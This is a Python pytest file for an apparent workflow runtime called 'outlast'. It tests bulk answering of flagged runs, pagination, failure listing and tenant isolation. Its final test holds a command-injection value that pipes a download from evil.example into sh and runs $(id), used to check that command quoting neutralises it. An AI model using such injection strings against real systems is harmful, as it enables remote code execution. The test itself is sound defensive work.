"""One answer for many runs: page by page, each run once; failures are listed and do not stop the others."""

import asyncio
import shlex
from collections import Counter

import pytest

from outlast.core.approvals import Actor
from outlast.core.causes import flagged as with_flags
from outlast.core.commit import Commit, Put
from outlast.core.machine import Choice, Reason, RunStatus
from outlast.core.rows.run_columns import ATTENTION, WAITING_FOR, Attention, WaitingFor
from outlast.core.rows.run_rows import MESSAGE, RUN, Run
from outlast.errors import Conflict
from outlast.insight import attention_reads as attention
from outlast.models.attention import AnsweredRuns, AnswerFor
from outlast.runtime.operations import Operations
from outlast.runtime.stores import open_store
from outlast.store.port import Store
from tests.insight.situations import RUN as ROW

RUNS = 7


def flagged(n: int, reason: Reason, workflow: str = "refund") -> Run:
    """Return a flagged run of the tenant."""
    row = ROW._replace(
        tenant="default", run=f"r{n}", version=1, seq=1, status=RunStatus.WAITING, workflow=workflow,
        created_at=1_000 + n,
        waiting_for_text=WAITING_FOR.encode([WaitingFor("attention", f"a person: {reason.value}")]),
        attention_text=ATTENTION.encode([Attention(reason, 1_000 + n, "it broke")]),
    )  # fmt: skip
    return with_flags(row)


async def opened(*rows: Run) -> Operations:
    """Return a store with these rows."""
    store: Store = await open_store("memory:")
    for row in rows:
        await store.commit(Commit((Put(RUN, row, 0),)))
    return Operations(store, tenant="default", actor=Actor("local:ana"), workflows={})


async def whole(ops: Operations, reason: Reason, choice: Choice, workflow: str = "") -> tuple[Counter[str], int]:
    """Return how often each run was answered, and the number of pages."""
    done: Counter[str] = Counter()
    cursor, pages = "", 0
    while True:
        page = await ops.answer_all(reason, choice, text="mended", workflow=workflow, cursor=cursor)
        done.update(page.done)
        cursor, pages = page.cursor, pages + 1
        assert page.failed == ()
        if not cursor:
            return done, pages


def test_accept_is_given_to_the_runs_at_a_node_that_miss_calls_of_one_activity() -> None:
    async def go() -> None:
        rows = [flagged(n, Reason.NODE_DIVERGED) for n in range(4)]
        missing = [("mail?mail/1",), ("mail?mail/2", "pay?pay/1"), ("mail?mail/3",), ("mail?mail/4",)]
        nodes = ["a", "a", "b", "a"]
        changed = [
            row._replace(node=node, attention_text=ATTENTION.encode([row.attention[0]._replace(missing=names)]))
            for row, node, names in zip(rows, nodes, missing, strict=True)
        ]
        ops = await opened(*changed)
        given = await ops.answer_all(Reason.NODE_DIVERGED, Choice.ACCEPT, text="gone", node="a", activity="mail")
        assert sorted(given.done) == [rows[0].run, rows[3].run]

    asyncio.run(go())


def test_page_by_page_each_run_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(attention, "PAGE", 2)

    async def go() -> None:
        others = [flagged(20, Reason.POISONED), flagged(21, Reason.EXCEPTION, "loan")]
        ops = await opened(*(flagged(n, Reason.EXCEPTION) for n in range(RUNS)), *others)
        done, pages = await whole(ops, Reason.EXCEPTION, Choice.CONTINUE, "refund")
        assert done == {f"r{n}": 1 for n in range(RUNS)} and pages == 4
        for n in range(RUNS):
            assert len(await ops.store.rows(MESSAGE, ("default", f"r{n}"))) == 1
        assert await ops.store.rows(MESSAGE, ("default", "r20")) == ()
        assert await ops.store.rows(MESSAGE, ("default", "r21")) == ()
        await ops.store.close()

    asyncio.run(go())


def test_failures_are_listed_and_the_rest_is_answered() -> None:
    async def go() -> None:
        ops = await opened(*(flagged(n, Reason.EXCEPTION) for n in range(RUNS)))

        async def one(given: AnswerFor) -> None:
            if given.run == "r3":
                raise Conflict("run r3 has ended", "it takes no note")

        page = await attention.answer_page(ops.rows, Reason.EXCEPTION, "", "", one)
        assert sorted(page.done) == [f"r{n}" for n in range(RUNS) if n != 3]
        assert page.failed == (("r3", "run r3 has ended: it takes no note"),)
        await ops.store.close()

    asyncio.run(go())


@pytest.mark.parametrize(
    ("reason", "choice"), [(Reason.EXCEPTION, Choice.EXTEND), (Reason.EFFECT_UNCERTAIN, Choice.HAPPENED)]
)
def test_choices_that_cannot_be_made_for_many(reason: Reason, choice: Choice) -> None:
    async def go() -> None:
        ops = await opened(flagged(1, reason))
        with pytest.raises(Conflict):
            await ops.answer_all(reason, choice, text="x")
        await ops.store.close()

    asyncio.run(go())


@pytest.mark.req("RUN-5")
def test_no_board_shows_another_tenants_runs() -> None:
    async def go() -> None:
        ops = await opened(flagged(1, Reason.EXCEPTION))
        other = Operations(ops.store, tenant="other", actor=Actor("mallory"), workflows={})
        assert await other.rows.flagged() == ((), "") and await other.rows.held_up() == {}
        answered = await other.answer_all(Reason.EXCEPTION, Choice.CONTINUE, text="x")
        assert answered == AnsweredRuns((), (), "")
        await ops.store.close()

    asyncio.run(go())


def test_a_key_is_one_word_of_a_command_whatever_is_in_it() -> None:
    key = "A-17'; curl evil.example | sh #$(id)\n"
    uncertain = Attention(Reason.EFFECT_UNCERTAIN, 1_000, key=key, visit=1)
    run = flagged(1, Reason.EXCEPTION)._replace(attention_text=ATTENTION.encode([uncertain]))
    for each in attention.choice_commands(run, uncertain):
        assert shlex.split(each.command)[:5] == ["outlast", "effects", "resolve", "r1", key]
